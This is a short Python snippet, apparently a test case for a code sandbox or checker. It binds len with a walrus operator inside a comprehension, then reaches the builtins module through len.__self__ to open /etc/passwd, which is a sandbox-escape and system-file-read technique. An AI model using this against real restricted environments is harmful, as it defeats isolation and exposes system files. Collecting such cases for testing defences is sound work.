# walrus binding inside a comprehension, then reflection on it
[(b := len) for _ in range(1)]
b.__self__.open("/etc/passwd")
